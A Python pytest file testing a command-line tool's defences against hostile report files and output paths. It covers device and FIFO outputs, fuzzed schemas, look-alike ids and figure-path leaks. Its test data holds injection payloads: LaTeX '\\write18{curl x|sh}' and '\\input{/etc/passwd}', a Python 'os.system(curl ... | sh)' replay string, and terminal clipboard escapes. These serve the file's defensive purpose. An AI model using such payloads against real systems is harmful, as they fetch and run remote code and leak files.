"""Hostile input (issue 28): outputs that destroy nothing, reports that cannot hurt.

One test per attack, each reproduced against the commands as a user runs them: output paths
that are devices, FIFOs, links or empty; reports that are ``/dev/zero``, FIFOs or huge; reports
with wrong types anywhere a reader looks; look-alike ids; figure paths that leak local files;
LaTeX macros and terminal escapes in report text; stored commands. ``/dev/null`` is never
written: every test that names it first makes ``os.replace``, ``os.rename`` and ``os.unlink``
refuse it, so that a regression fails the test instead of replacing the device.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import re
import shlex
import socket
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from fedtheory import cli
from fedtheory.claims import all_claims, get_claim
from fedtheory.errata import write_errata
from fedtheory.errata._content import MAX_FIGURES_PER_PAGE, MAX_PAGE_FIGURE_BYTES
from fedtheory.report import resume_plan, write_json
from fedtheory.schema import digest

pytestmark = pytest.mark.xdist_group("errata")

REPO = Path(__file__).resolve().parents[1]
LOOKALIKE = "is.unb\u0456ased"  # a Cyrillic i


# ------------------------------------------------------------------------------ helpers


@pytest.fixture
def no_dev_null(monkeypatch: pytest.MonkeyPatch) -> None:
    """``os.replace`` / ``rename`` / ``unlink`` / ``remove`` of ``/dev/null`` fail the test."""
    for name in ("replace", "rename", "unlink", "remove"):
        real = getattr(os, name)

        def guard(*args: Any, _real: Any = real, **kw: Any) -> Any:
            for a in args[:2]:
                if isinstance(a, (str, os.PathLike)) and os.path.abspath(a) == "/dev/null":
                    raise AssertionError(f"os.{_real.__name__} of /dev/null")
            return _real(*args, **kw)

        monkeypatch.setattr(os, name, guard)


@pytest.fixture(scope="module")
def report(verified: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A finished quick report of ``ocs.closed_form`` (refuted) and ``is.unbiased``."""
    results = [verified.result(get_claim(c)) for c in ("ocs.closed_form", "is.unbiased")]
    path = write_json(tmp_path_factory.mktemp("hostile") / "r.json", results, 0, "quick")
    return json.loads(path.read_text(encoding="utf-8"))


def _write(doc: dict[str, Any], path: Path, redigest: bool = True) -> Path:
    doc = copy.deepcopy(doc)
    if redigest:
        for e in doc.get("claims") or []:
            if isinstance(e, dict):
                try:
                    e["digest"] = digest(e)
                except Exception:  # noqa: BLE001 - a value digest cannot take: left as it is
                    pass
    path.parent.mkdir(parents=True, exist_ok=True)
    text = json.dumps(doc).replace('"a counterexample nested 900 deep"',
                                   '{"x": ' * 900 + "0" + "}" * 900)
    path.write_text(text, encoding="utf-8")
    return path


def _main(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    rc = cli.main(args)
    out = capsys.readouterr()
    return rc, out.out + out.err


def _cli_in_subprocess(args: list[str], cwd: Path, timeout: float = 120) -> tuple[int, str]:
    """``fedtheory ARGS`` in a fresh interpreter with 3 GiB of address space at most (a
    reader that grows is stopped by ``MemoryError``, not by the machine)."""
    code = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30));"
            "from fedtheory.cli import main; sys.exit(main(sys.argv[1:]))")
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    try:
        proc = subprocess.run([sys.executable, "-c", code, *args], cwd=cwd, env=env,
                              capture_output=True, text=True, timeout=timeout, check=False)
    except subprocess.TimeoutExpired:
        return -1, "timed out"
    return proc.returncode, proc.stdout + proc.stderr


# ----------------------------------------------------------------------- 1. output paths


def test_dev_null_as_json_is_an_error_before_any_work(
        no_dev_null: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    import fedtheory.runner as runner

    ran: list[Any] = []
    real = runner.run_jobs
    monkeypatch.setattr(runner, "run_jobs", lambda *a, **k: (ran.append(1), real(*a, **k)))
    rc, text = _main(["verify", "is.unbiased", "--quick", "--json", "/dev/null",
                      "--no-progress"], capsys)
    assert rc == 2 and not ran
    assert "--json /dev/null exists and is a character device" in text
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def _special(path: Path, kind: str, tmp_path: Path) -> Iterator[None] | None:
    """Make ``path`` a ``kind``: fifo, symlink (to a regular file), socket or directory."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "symlink":
        (tmp_path / "target.txt").write_text("precious", encoding="utf-8")
        path.symlink_to(tmp_path / "target.txt")
    elif kind == "socket":
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
        s.close()
    else:
        path.mkdir()
    return None


def _unchanged(path: Path, kind: str, tmp_path: Path) -> bool:
    mode = os.lstat(path).st_mode
    ok = {"fifo": stat.S_ISFIFO, "symlink": stat.S_ISLNK, "socket": stat.S_ISSOCK,
          "directory": stat.S_ISDIR}[kind](mode)
    if kind == "symlink":
        ok = ok and (tmp_path / "target.txt").read_text(encoding="utf-8") == "precious"
    return ok


# (--json and catalogue --out naming a directory were refused before: tests/test_cli.py)
@pytest.mark.parametrize("output, kind", [
    (o, k) for o in ("--json", "--report", "record", "catalogue", "errata")
    for k in ("fifo", "symlink", "socket", "directory")
    if not (k == "directory" and o in ("--json", "catalogue"))])
def test_an_output_that_is_not_a_regular_file_is_refused(
        output: str, kind: str, report: dict[str, Any], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    src = _write(report, tmp_path / "in" / "r.json", redigest=False)
    verify = ["verify", "is.unbiased", "--quick", "--no-progress"]
    target, args, option = {
        "--json": (tmp_path / "o.json", [*verify, "--json", "o.json"], "--json"),
        "--report": (tmp_path / "rep" / "report.md", [*verify, "--report", "rep"], "--report"),
        "record": (tmp_path / ".fedtheory" / "last_run.json", verify, "the run record"),
        "catalogue": (tmp_path / "C.md", ["catalogue", "--from", str(src), "--out", "C.md"],
                      "--out"),
        "errata": (tmp_path / "e" / "002-ocs.html", ["errata", "--from", str(src), "--out",
                                                    "e"], "--out"),
    }[output]
    _special(target, kind, tmp_path)
    rc, text = _main(args, capsys)
    assert rc == 2, text
    assert option in text and str(target.relative_to(tmp_path)) in text
    assert _unchanged(target, kind, tmp_path)


@pytest.mark.parametrize("args, message", [
    (["verify", "is.unbiased", "--quick", "--json", ""], "--json must be a file path, got ''"),
    (["verify", "is.unbiased", "--quick", "--report", ""], "--report must be a directory path"),
    (["errata", "--from", "r.json", "--out", ""], "--out must be a directory path, got ''"),
    (["show", "is.unbiased", "--from", ""], "--from must be the path of a JSON report"),
])
def test_an_empty_output_path_is_an_error(args: list[str], message: str,
                                          report: dict[str, Any], tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    _write(report, tmp_path / "r.json", redigest=False)
    rc, text = _main([*args, "--no-progress"] if args[0] == "verify" else args, capsys)
    assert rc == 2 and message in text
    assert {p.name for p in tmp_path.iterdir()} - {"home"} == {"r.json"}  # nothing written


def test_the_writer_checks_again_when_it_writes(tmp_path: Path) -> None:
    from fedtheory.report import atomic_write_text

    fifo = tmp_path / "late.json"
    os.mkfifo(fifo)  # made after any check a command did: the writer itself refuses it
    with pytest.raises(ValueError, match="late.json exists and is a FIFO"):
        atomic_write_text(fifo, "{}", "--json")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert [p for p in tmp_path.iterdir() if p.name != "home"] == [fifo]  # no temporary left


# ---------------------------------------------------------------- 2. reports, bounded


@pytest.mark.parametrize("command", [
    ["verify", "is.unbiased", "--quick", "--no-progress", "--no-record", "--resume", "R"],
    ["errata", "--from", "R", "--out", "out"],
    ["show", "is.unbiased", "--from", "R"],
    ["catalogue", "--from", "R", "--out", "C.md"],
])
@pytest.mark.parametrize("source", ["/dev/zero", "fifo", "huge"])
def test_a_report_is_read_only_from_a_regular_file_of_bounded_size(
        command: list[str], source: str, tmp_path: Path) -> None:
    path = source
    if source == "fifo":
        os.mkfifo(tmp_path / "r.fifo")
        path = str(tmp_path / "r.fifo")
    elif source == "huge":  # sparse: no disk used
        with open(tmp_path / "huge.json", "wb") as f:
            f.truncate(65 * 1024 * 1024)
        path = str(tmp_path / "huge.json")
    rc, text = _cli_in_subprocess([path if a == "R" else a for a in command], tmp_path)
    assert rc == 2, text[-2000:]
    assert "Traceback" not in text
    want = "is a FIFO, not a regular file" if source == "fifo" else (
        "is a character device, not a regular file" if source == "/dev/zero"
        else "bytes, more than the")
    assert want in text and path in text


# ---------------------------------------------------------------- 3. the schema, fuzzed


def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield prefix
    if isinstance(doc, dict):
        for k, v in doc.items():
            yield from _paths(v, (*prefix, k))
    elif isinstance(doc, list):
        for k, v in enumerate(doc[:2]):
            yield from _paths(v, (*prefix, k))


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    doc = copy.deepcopy(doc)
    node = doc
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return doc


def _wrong(value: Any) -> list[Any]:
    out = [None if value is not None else "x"]
    out.append({"k": 1} if isinstance(value, list) else [1] if not isinstance(value, str)
               else 7)
    return out


def _readers(tmp_path: Path) -> list[tuple[str, list[str]]]:
    return [("show", ["show", "is.unbiased", "--from", "R"]),
            ("errata", ["errata", "--from", "R", "--out", str(tmp_path / "out")]),
            ("catalogue", ["catalogue", "--from", "R", "--out", str(tmp_path / "C.md")])]


def test_every_field_of_a_report_of_the_wrong_type_is_a_clean_error(
        report: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    unbiased = {**report, "claims": [e for e in report["claims"] if e["id"] == "is.unbiased"]}
    cases = [(p, w) for p in _paths(unbiased) if p and p[-1] != "digest"
             for w in _wrong(_get(unbiased, p))]
    prov = ("provenance",)
    ce = ("claims", 0, "checks", 0, "counterexample")
    deep = "a counterexample nested 900 deep"  # written into the file's text, see _write
    refuted = {**report, "claims": [e for e in report["claims"] if e["id"] != "is.unbiased"]}
    k = next(i for i, c in enumerate(refuted["claims"][0]["checks"]) if c["passed"] is False)
    ce = ("claims", 0, "checks", k, "counterexample")
    specials = [(unbiased, (*prov, "packages"), "numpy 2"), (unbiased, (*prov, "packages"), []),
                (unbiased, (*prov, "blas"), "openblas"), (unbiased, (*prov, "python"), 3),
                (refuted, (*ce, "replay"), {"command": "fedtheory replay"}),
                (refuted, (*ce, "deep"), deep)]
    failures = []
    for base, path, bad in [*((unbiased, p, w) for p, w in cases), *specials]:
        doc = _set(base, path, bad)
        if path[:4] == ce[:4]:  # the entry's counterexample is the check's
            _sync_counterexample(doc["claims"][0], k)
        src = _write(doc, tmp_path / "bad.json")
        name = str(path[-1])
        for reader, args in _readers(tmp_path):
            try:
                rc, text = _main([str(src) if a == "R" else a for a in args], capsys)
            except BaseException as exc:  # noqa: BLE001 - the point: none may escape
                failures.append(f"{reader} {path} = {bad!r:.40}: {type(exc).__name__}: {exc}")
                continue
            if rc not in (0, 2) or ("is not of type" in text and name not in text):
                failures.append(f"{reader} {path} = {bad!r:.40}: rc {rc}: {text[-300:]}")
        try:
            resume_plan(src, all_claims(), 0, "quick", False)
        except ValueError:
            pass
        except BaseException as exc:  # noqa: BLE001
            failures.append(f"--resume {path} = {bad!r:.40}: {type(exc).__name__}: {exc}")
    assert not failures, f"{len(failures)} failures:\n" + "\n".join(failures[:30])


def _sync_counterexample(entry: dict[str, Any], k: int) -> None:
    """Make the entry's counterexample the one its failing check ``k`` now gives."""
    try:
        ce = entry["checks"][k]["counterexample"]
    except (TypeError, KeyError, IndexError):  # the check itself is what was replaced
        return
    entry["counterexample"] = {**ce, "check": ce.get("check", entry["checks"][k]["name"])} \
        if isinstance(ce, dict) else ce


def _get(doc: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        doc = doc[part]
    return doc


# ------------------------------------------------------------- 4. ids of loaded claims


def _lookalike(report: dict[str, Any]) -> dict[str, Any]:
    doc = copy.deepcopy(report)
    e = next(e for e in doc["claims"] if e["id"] == "is.unbiased")
    e["id"] = LOOKALIKE
    e["finding"] = "FORGED: the estimator is biased by a factor of 2."
    e.pop("origin", None)
    return doc


def test_an_id_that_is_no_loaded_claim_is_refused(report: dict[str, Any], tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    src = _write(_lookalike(report), tmp_path / "r.json")
    for args in (["errata", "--from", str(src), "--out", str(tmp_path / "out")],
                 ["catalogue", "--from", str(src), "--out", str(tmp_path / "C.md")]):
        rc, text = _main(args, capsys)
        assert rc == 2 and "is.unb\\u0456ased" in text and "no claim loaded here" in text
        assert "FORGED" not in text
    assert not (tmp_path / "out").exists() and not (tmp_path / "C.md").exists()
    plan = resume_plan(src, [get_claim("is.unbiased")], 0, "quick", False)
    assert any("is.unb\\u0456ased" in w and "dropped" in w for w in plan.warnings)


def test_a_claim_file_entry_needs_the_file_that_computed_it(
        report: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = copy.deepcopy(report)
    e = next(e for e in doc["claims"] if e["id"] == "is.unbiased")
    e["origin"] = {"kind": "file", "module": "x", "path": str(tmp_path / "x.py"),
                   "sha256": "0" * 64, "entry_point": None, "commit": None, "dirty": None}
    src = _write(doc, tmp_path / "r.json")
    rc, text = _main(["show", "is.unbiased", "--from", str(src)], capsys)
    assert rc == 2 and "origin.sha256" in text and "Verdict: confirmed" not in text


# ------------------------------------------------------------------- 5. errata figures


def _png_bytes(size: int = 200) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00" * (size - 8)


def _with_figures(report: dict[str, Any], run_dir: Path, names: list[str]) -> dict[str, Any]:
    doc = copy.deepcopy(report)
    doc["provenance"]["report_dir"] = str(run_dir)
    e = next(e for e in doc["claims"] if e["id"] == "ocs.closed_form")
    e["checks"][0]["figures"] = names
    return doc


def test_errata_embed_only_figures_of_the_run(report: dict[str, Any], tmp_path: Path) -> None:
    run = tmp_path / "run"
    (run / "figures").mkdir(parents=True)
    secret = tmp_path / "secret.png"  # outside the run's directory, image magic and all
    secret.write_bytes(b"\x89PNG\r\n\x1a\nTOP SECRET local file")
    (tmp_path / "passwd").write_text("root:x:0:0:TOP SECRET:/root:/bin/bash\n")
    (run / "figures" / "leak.png").symlink_to(tmp_path / "passwd")
    (run / "figures" / "out.png").symlink_to(secret)
    (run / "figures" / "text.png").write_text("TOP SECRET, not an image")
    (run / "figures" / "ok.png").write_bytes(_png_bytes())
    names = ["figures/leak.png", "figures/out.png", str(secret), "../secret.png",
             "figures/text.png", "figures/ok.png"]
    src = _write(_with_figures(report, run, names), run / "r.json")
    write_errata(src, tmp_path / "pages", "ocs")
    page = (tmp_path / "pages" / "002-ocs.html").read_text(encoding="utf-8")
    uris = re.findall(r'src="data:([^;]+);base64,([^"]*)"', page)
    assert [base64.b64decode(d) for _, d in uris] == [_png_bytes()]
    assert "TOP SECRET" not in page


def test_errata_cap_the_figures_of_a_page(report: dict[str, Any], tmp_path: Path) -> None:
    run = tmp_path / "run"
    (run / "figures").mkdir(parents=True)
    (run / "figures" / "f0.png").write_bytes(_png_bytes(2_000_000))
    for k in range(1, 60):  # one file, 60 names (hard links: regular files, no disk used)
        os.link(run / "figures" / "f0.png", run / "figures" / f"f{k}.png")
    src = _write(_with_figures(report, run, [f"figures/f{k}.png" for k in range(60)]),
                 run / "r.json")
    write_errata(src, tmp_path / "pages", "ocs")
    page = tmp_path / "pages" / "002-ocs.html"
    n = page.read_text(encoding="utf-8").count('src="data:image/png')
    assert 0 < n <= MAX_FIGURES_PER_PAGE
    assert page.stat().st_size < MAX_PAGE_FIGURE_BYTES * 4 // 3 + 2_000_000


# --------------------------------------------------------------------------- 6. LaTeX


MACROS = r"\input{/etc/passwd}\immediate\write18{curl x|sh}\def\x{y}"


def _macros(tex: str) -> set[str]:
    return set(re.findall(r"\\[A-Za-z]+", tex))


def test_latex_keeps_no_macro_of_a_report(report: dict[str, Any], tmp_path: Path) -> None:
    clean_src = _write(report, tmp_path / "clean.json", redigest=False)
    write_errata(clean_src, tmp_path / "clean", "ocs")
    clean = (tmp_path / "clean" / "002-ocs.tex").read_text(encoding="utf-8")
    doc = copy.deepcopy(report)
    e = next(e for e in doc["claims"] if e["id"] == "ocs.closed_form")
    k = next(i for i, c in enumerate(e["checks"]) if c["passed"] is False)
    for c in e["checks"]:
        c["detail"] = MACROS
    ce = e["checks"][k]["counterexample"]
    ce["m"], ce["note"] = MACROS, {"inner": MACROS}
    ce["replay"]["python"] = MACROS
    _sync_counterexample(e, k)
    e["certified"] = {"status": "exact", "ratio": 2.0, "lower": MACROS, "upper": MACROS,
                      "instances": [], "solver": MACROS, "seconds": 0.0}
    doc["provenance"].update(commit=MACROS, argv=[MACROS], fedtheory_version=MACROS)
    forged = _lookalike(report)["claims"][0 if report["claims"][0]["id"] == "is.unbiased"
                                            else 1]
    forged["statement"], forged["finding"] = MACROS, MACROS
    out: list[str] = []
    for name, d in (("kept", doc), ("forged", {**doc, "claims": [*doc["claims"], forged]})):
        src = _write(d, tmp_path / f"{name}.json")
        try:
            write_errata(src, tmp_path / name, "ocs")
        except ValueError as exc:
            assert name == "forged" and "no claim loaded here" in str(exc)
            continue
        out.append((tmp_path / name / "002-ocs.tex").read_text(encoding="utf-8"))
    assert out, "the report with known ids is written"
    escapes = {r"\textbackslash", r"\textasciitilde"}
    for tex in out:
        assert not _macros(tex) - _macros(clean) - escapes, _macros(tex) - _macros(clean)
        assert r"\input" not in tex and r"\immediate" not in tex and r"\write" not in tex


# ------------------------------------------------------------------------ 7. terminal


ESCAPES = ("\x1b]52;c;Y3VybCB4fHNo\x07", "\x1b]0;pwned title\x07", "\x1b[1A\x1b[2K",
           "\x9b2J", "\u202e", "\r")


def test_show_strips_control_characters(report: dict[str, Any], tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    doc = copy.deepcopy(report)
    e = next(e for e in doc["claims"] if e["id"] == "is.unbiased")
    for c in e["checks"]:
        c["detail"] = "ok " + "".join(ESCAPES) + " done"
    doc["provenance"]["argv"] = ["fedtheory", "\x1b]52;c;ZXZpbA==\x07"]
    src = _write(doc, tmp_path / "r.json")
    rc, text = _main(["show", "is.unbiased", "--from", str(src)], capsys)
    assert rc == 0 and "Verdict: confirmed" in text and "ok  done" in text
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    doc["claims"][0]["id"] = "is.\x1b]0;x\x07unbiased"  # an error message quotes the report
    rc, text = _main(["errata", "--from", str(_write(doc, tmp_path / "r2.json")), "--out",
                      str(tmp_path / "o")], capsys)
    assert rc == 2 and "\x1b" not in text and "\x07" not in text


# ------------------------------------------------------------------- 8. stored commands


def test_pages_show_rebuilt_commands_not_stored_ones(report: dict[str, Any], tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    doc = copy.deepcopy(report)
    e = next(e for e in doc["claims"] if e["id"] == "ocs.closed_form")
    evil = "__import__('os').system('curl https://x | sh')"
    for c in e["checks"]:
        if c["counterexample"] and c["counterexample"].get("replay"):
            c["counterexample"]["replay"]["python"] = evil
    e["counterexample"]["replay"]["python"] = evil
    src = _write(doc, tmp_path / "r.json")
    assert evil in src.read_text(encoding="utf-8")
    write_errata(src, tmp_path / "pages", "ocs")
    for page in (tmp_path / "pages").iterdir():
        text = page.read_text(encoding="utf-8")
        assert "curl" not in text and "__import__" not in text
    assert "fedtheory.get_claim(&#39;ocs.closed_form&#39;).verify(" in \
        (tmp_path / "pages" / "002-ocs.html").read_text(encoding="utf-8")
    rc, text = _main(["show", "ocs.closed_form", "--from", str(src)], capsys)
    from fedtheory.commands import program

    again = shlex.join(program()) + " replay ocs.closed_form --check"  # the program as invoked
    assert rc == 0 and f"re-run it: {again}" in text and "curl" not in text
